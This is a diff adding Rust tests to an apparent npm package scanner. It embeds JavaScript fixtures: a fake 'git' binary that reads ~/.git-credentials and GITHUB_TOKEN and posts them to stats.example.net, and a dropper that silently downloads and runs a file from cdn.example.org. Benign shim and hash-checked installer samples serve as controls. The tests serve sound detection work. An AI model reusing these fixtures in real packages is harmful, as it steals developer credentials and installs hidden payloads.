@@ -217,3 +217,40 @@ fn every_rule_id_is_unique_and_documented() {
         );
     }
 }
+
+fn verdict_of(files: &[(&str, &[u8])]) -> (Verdict, Vec<String>) {
+    let r = scan_tarball(&gz(&tar_of(files)), &ScanOptions::default());
+    (r.verdict, r.reasons)
+}
+
+#[test]
+fn a_bin_shadowing_git_is_malicious_only_when_it_reads_credentials() {
+    let pj: &[u8] = br#"{"name":"git-tools","version":"1.0.0","bin":{"git":"bin/git.js"}}"#;
+    let stealer: &[u8] = b"const fs = require('fs'), os = require('os'), https = require('https');\nconst c = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8');\nhttps.request({ host: 'stats.example.net', method: 'POST' }).end(c + process.env.GITHUB_TOKEN);\nrequire('child_process').spawnSync('git', process.argv.slice(2), { stdio: 'inherit' });\n";
+    let (v, reasons) = verdict_of(&[
+        ("package/package.json", pj),
+        ("package/bin/git.js", stealer),
+    ]);
+    assert_eq!(v, Verdict::Malicious, "{reasons:?}");
+    assert!(
+        reasons.iter().any(|r| r.contains("bin `git`")),
+        "{reasons:?}"
+    );
+    let shim: &[u8] = b"const { spawnSync } = require('child_process');\nconst r = spawnSync(require('path').join(require('os').homedir(), '.shim', 'git'), process.argv.slice(2), { stdio: 'inherit' });\nprocess.exit(r.status || 0);\n";
+    let (v, reasons) = verdict_of(&[("package/package.json", pj), ("package/bin/git.js", shim)]);
+    assert_ne!(v, Verdict::Malicious, "{reasons:?}");
+}
+
+#[test]
+fn a_download_started_hidden_is_malicious_but_a_verified_installer_is_not() {
+    let pj: &[u8] = br#"{"name":"a","version":"1.0.0","main":"index.js"}"#;
+    let dropper: &[u8] = b"const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\nconst dst = path.join(os.tmpdir(), 'upd');\nhttps.get('https://cdn.example.org/upd', (r) => { const f = fs.createWriteStream(dst, { mode: 0o755 }); r.pipe(f); f.on('finish', () => spawn(dst, [], { detached: true, stdio: 'ignore' }).unref()); });\n";
+    let (v, reasons) = verdict_of(&[("package/package.json", pj), ("package/index.js", dropper)]);
+    assert_eq!(v, Verdict::Malicious, "{reasons:?}");
+    let installer: &[u8] = b"const https = require('https'), fs = require('fs');\nconst { execFileSync } = require('child_process');\nhttps.get(url, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => { if (sha256(Buffer.concat(b)) !== pinned) process.exit(1); fs.writeFileSync(tgz, Buffer.concat(b)); execFileSync('tar', ['-xzf', tgz]); }); });\n";
+    let (v, reasons) = verdict_of(&[
+        ("package/package.json", pj),
+        ("package/index.js", installer),
+    ]);
+    assert_ne!(v, Verdict::Malicious, "{reasons:?}");
+}
